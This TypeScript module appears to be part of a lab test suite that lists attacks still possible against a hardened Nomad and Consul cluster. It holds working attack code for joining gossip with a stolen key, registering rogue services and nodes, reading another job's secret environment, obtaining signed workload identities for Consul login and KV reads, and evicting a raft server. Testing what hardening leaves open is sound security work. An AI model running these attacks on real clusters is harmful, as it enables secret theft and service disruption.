import { randomUUID } from 'node:crypto';
import { waitFor } from '../commands.ts';
import type { Remainder } from './attack.ts';
import { askForToken, jobOf } from './job.ts';
import { joinConsul } from './network.ts';
import { bytes } from './rpc.ts';
import { addressOf, asOperator, http, rpc, runJob, say, type World } from './world.ts';

const victim = `job "victim" {
  datacenters = ["*"]
  group "g" {
    task "t" {
      driver = "exec"
      identity {
        name = "consul_default"
        aud  = ["consul.io"]
      }
      env {
        PASSWORD = "of-the-victim"
      }
      config {
        command = "/bin/sleep"
        args    = ["600"]
      }
      resources {
        cpu    = 50
        memory = 32
      }
    }
  }
}
`;

function overRpc(w: World, method: string, body: object): Promise<string> {
  const call = { address: addressOf(w.server), port: 4647, tls: bytes.nomad.tls, protocol: bytes.nomad.rpc, method };
  return rpc(w, { ...call, ...w.stolen.pair, body: { Region: 'global', ...body } });
}

/** Registers a node that nobody else knows, with the client's certificate alone. Returns its secret. */
async function ownNode(w: World): Promise<string> {
  const [id, secret] = [randomUUID(), randomUUID()];
  const node = {
    ID: id,
    SecretID: secret,
    Name: 'own',
    Datacenter: 'nowhere',
    NodePool: 'default',
    Status: 'ready',
    Attributes: { 'kernel.name': 'linux', 'cpu.arch': 'amd64', 'nomad.version': '2.0.5', 'driver.exec': '1' },
    Drivers: {},
  };
  const answer = await overRpc(w, 'Node.Register', { Node: node });
  if (!answer.startsWith('answered')) throw new Error(`a client's certificate makes no node: ${answer}`);
  return secret;
}

/** The allocation of a job on the cluster's own client. */
async function victimAllocation(w: World): Promise<string> {
  await w.server.exec(['nomad', 'job', 'run', '-detach', '-'], { ...asOperator(w), stdin: victim });
  return waitFor(
    'the victim to run',
    async () => {
      const { stdout } = await w.server.exec(['nomad', 'job', 'allocs', '-json', 'victim'], asOperator(w));
      const [allocation] = JSON.parse(stdout) as { ID: string; ClientStatus: string }[];
      return allocation?.ClientStatus === 'running' ? allocation.ID : undefined;
    },
    { timeoutMs: 60_000 },
  );
}

/** What Consul's one gossip key, the tokens that clients share, and Nomad's trust in its clients leave open. */
export const remains: readonly Remainder[] = [
  {
    position: 'client',
    what: "join Consul's gossip from another machine, and see every node",
    attempt: w => joinConsul(w, w.secrets.credentials.consulGossip.reveal()),
    gain: /server1.*server2/s,
  },
  {
    position: 'client',
    what: 'register a service of any name on any node in Consul',
    attempt: async w => {
      const token = w.secrets.credentials.tokens.consul['nomad-client'].secretId.reveal();
      const body = '{"Node":"server1","SkipNodeUpdate":true,"Service":{"Service":"evil","Address":"192.0.2.1"}}';
      return http(w.client, 'http://127.0.0.1:8500/v1/catalog/register', [
        '-X',
        'PUT',
        '-H',
        `X-Consul-Token: ${token}`,
        '-d',
        body,
      ]);
    },
    gain: /HTTP 200/,
  },
  {
    position: 'client',
    what: 'read the job of another node, with what its environment holds, as a node that the certificate alone registers',
    attempt: async w =>
      overRpc(w, 'Alloc.GetAllocs', { AllocIDs: [await victimAllocation(w)], AuthToken: await ownNode(w) }),
    gain: /of-the-victim/,
  },
  {
    position: 'client',
    what: 'be given the identity of a job of another node, and read the KV store with it',
    async attempt(w) {
      const [AllocID, AuthToken] = [await victimAllocation(w), await ownNode(w)];
      const identity = { AllocID, IdentityName: 'consul_default', WorkloadIdentifier: 't', WorkloadType: 0 };
      const signed = await overRpc(w, 'Alloc.SignIdentities', { AuthToken, Identities: [identity] });
      const login = JSON.stringify({ AuthMethod: 'nomad-workloads', BearerToken: /"JWT":"([^"]+)"/.exec(signed)?.[1] });
      const known = await http(w.client, 'http://127.0.0.1:8500/v1/acl/login', ['-X', 'POST', '-d', login]);
      const token = /"SecretID":"([^"]+)"/.exec(known)?.[1];
      if (token === undefined) return `${signed} ${known}`;
      return `the KV store: ${await http(w.client, 'http://127.0.0.1:8500/v1/kv/attack?raw', ['-H', `X-Consul-Token: ${token}`])}`;
    },
    gain: /^the KV store: x\s+HTTP 200/,
  },
  {
    position: 'job',
    what: "ask the metadata service from a container on the host's network, as root",
    attempt: w =>
      runJob(
        w.server,
        asOperator(w),
        jobOf({ driver: 'docker', config: 'network_mode = "host"', script: askForToken }),
      ),
    gain: /^HTTP\/1\.\d 200/,
  },
  {
    position: 'client',
    what: "push a server out of Consul's raft, by claiming its address in the gossip",
    async attempt(w) {
      const { consulGossip, consulManagement } = w.secrets.credentials;
      const last = w.servers.at(-1) ?? w.server;
      const ports =
        '-serf-lan-port=9301 -server-port=8300 -http-port=9500 -dns-port=-1 -grpc-port=-1 -grpc-tls-port=-1';
      const agent = [
        ...[
          'consul',
          'agent',
          '-server',
          '-node=usurper',
          `-bind=${addressOf(w.intruder)}`,
          `-advertise=${addressOf(last)}`,
        ],
        ...['-data-dir=/var/tmp/usurper', `-encrypt=${consulGossip.reveal()}`, '-datacenter=dc1', ports],
        ...[`-retry-join=${addressOf(w.server)}:8301`, '-retry-interval=1s'],
      ].join(' ');
      await w.intruder.exec(['systemctl', 'stop', 'careless-consul'], { check: false });
      const usurping = w.intruder.exec(['bash', '-c', `timeout 30 ${agent} >/var/tmp/usurper.log 2>&1; true`]);
      const watch = `for i in $(seq 30); do consul operator raft list-peers 2>&1 | grep -q '^${last.name} ' || echo "${last.name} is no peer any more"; sleep 1; done`;
      const seen = await say(w.server, ['bash', '-c', watch], {
        env: { CONSUL_HTTP_TOKEN: consulManagement.reveal() },
        timeoutMs: 120_000,
      });
      await usurping;
      return `${seen} ${await say(w.intruder, ['tail', '-n', '3', '/var/tmp/usurper.log'])}`;
    },
    gain: /is no peer any more/,
  },
];
